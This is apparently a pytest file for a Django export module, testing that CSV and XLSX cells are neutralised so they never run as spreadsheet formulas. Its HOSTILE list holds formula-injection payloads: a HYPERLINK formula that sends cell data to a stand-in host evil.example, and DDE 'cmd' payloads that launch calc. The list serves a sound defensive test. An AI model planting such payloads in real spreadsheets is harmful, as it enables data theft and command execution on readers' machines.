"""The shared spreadsheet writer: no cell of a CSV or XLSX export runs as a formula."""

from __future__ import annotations

import csv
import datetime
import io
from decimal import Decimal

import pytest
from django.utils import timezone
from django.utils.translation import gettext_lazy
from openpyxl import load_workbook

from core.exports import csv_lines, csv_response, neutralise, xlsx_response

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    '\uff1dHYPERLINK("http://evil.example")',  # full-width =
    "\uff0b1+1",  # full-width +
    "\uff0d1+1",  # full-width -
    "\uff20SUM(A1)",  # full-width @
    "   =1+1",  # importers that trim spaces would see a formula
    "\u00a0=1+1",  # a no-break space in front
]
BENIGN = [
    "Aino Virtanen",
    "Bjørn Hansen",
    "Sigrún Jónsdóttir",
    "Malmö stad",
    "a=b",
    "e-mail: x@example.org",
    "'quoted already",
    "",
]


@pytest.mark.parametrize("value", HOSTILE)
def test_text_that_would_run_as_a_formula_gets_an_apostrophe(value):
    assert neutralise(value) == "'" + value


@pytest.mark.parametrize("value", BENIGN)
def test_ordinary_text_is_left_alone(value):
    assert neutralise(value) == value


@pytest.mark.parametrize(
    "value",
    [-5, 0, 3.5, Decimal("-1.25"), None, True, datetime.date(2027, 3, 10)],
)
def test_values_that_are_not_text_are_left_alone(value):
    assert neutralise(value) is value


def test_lazy_text_is_neutralised_too():
    assert neutralise(gettext_lazy("=1+1")) == "'=1+1"


def test_neutralising_twice_changes_nothing_more():
    once = neutralise("=1+1")
    assert neutralise(once) == once


def read_csv(response) -> list[list[str]]:
    text = b"".join(response.streaming_content).decode()
    return list(csv.reader(io.StringIO(text, newline="")))


def test_csv_cells_read_back_as_text():
    header = ["Name", "=Heading"]
    rows = [[value, 7] for value in HOSTILE + BENIGN]
    response = csv_response("people", header, rows)
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="people.csv"'
    read = read_csv(response)
    assert read[0] == ["Name", "'=Heading"]
    assert [row[0] for row in read[1:]] == [neutralise(v) for v in HOSTILE + BENIGN]
    assert all(row[1] == "7" for row in read[1:])
    for (name, _number), value in zip(read[1:], HOSTILE, strict=False):
        assert name == "'" + value


def test_csv_is_written_lazily_row_by_row():
    consumed = []

    def rows():
        for number in range(3):
            consumed.append(number)
            yield [f"=row {number}"]

    lines = csv_lines(["Name"], rows())
    assert next(lines) == b"Name\r\n"
    assert consumed == []
    assert next(lines) == b"'=row 0\r\n"
    assert consumed == [0]


def read_xlsx(response):
    body = b"".join(response.streaming_content)
    response.close()
    sheet = load_workbook(io.BytesIO(body)).active
    return list(sheet.iter_rows())


def test_xlsx_cells_read_back_as_text_never_formulas():
    rows = [[value, -5] for value in HOSTILE + BENIGN]
    response = xlsx_response("people", ["Name", "@Heading"], rows)
    assert response["Content-Type"] == (
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    )
    assert 'filename="people.xlsx"' in response["Content-Disposition"]
    header, *body = read_xlsx(response)
    assert [cell.value for cell in header] == ["Name", "'@Heading"]
    for (name, number), value in zip(body, HOSTILE + BENIGN, strict=True):
        assert name.data_type != "f"
        assert name.value == (neutralise(value) or None)
        # Numbers stay numbers, even negative ones.
        assert number.value == -5 and number.data_type == "n"
    for (name, _number), value in zip(body, HOSTILE, strict=False):
        assert name.value == "'" + value


def test_xlsx_replaces_control_characters_instead_of_failing():
    response = xlsx_response("people", ["Name"], [["Aino\x01\x0bVirtanen"]])
    _header, row = read_xlsx(response)
    assert row[0].value == "Aino\ufffd\ufffdVirtanen"


def test_xlsx_writes_aware_times_as_local_wall_clock_times(settings):
    settings.TIME_ZONE = "Europe/Copenhagen"
    moment = datetime.datetime(2027, 3, 10, 8, 0, tzinfo=datetime.UTC)
    response = xlsx_response("people", ["When"], [[moment]])
    _header, row = read_xlsx(response)
    assert row[0].value == datetime.datetime(2027, 3, 10, 9, 0)
    assert row[0].is_date
    assert timezone.is_naive(row[0].value)
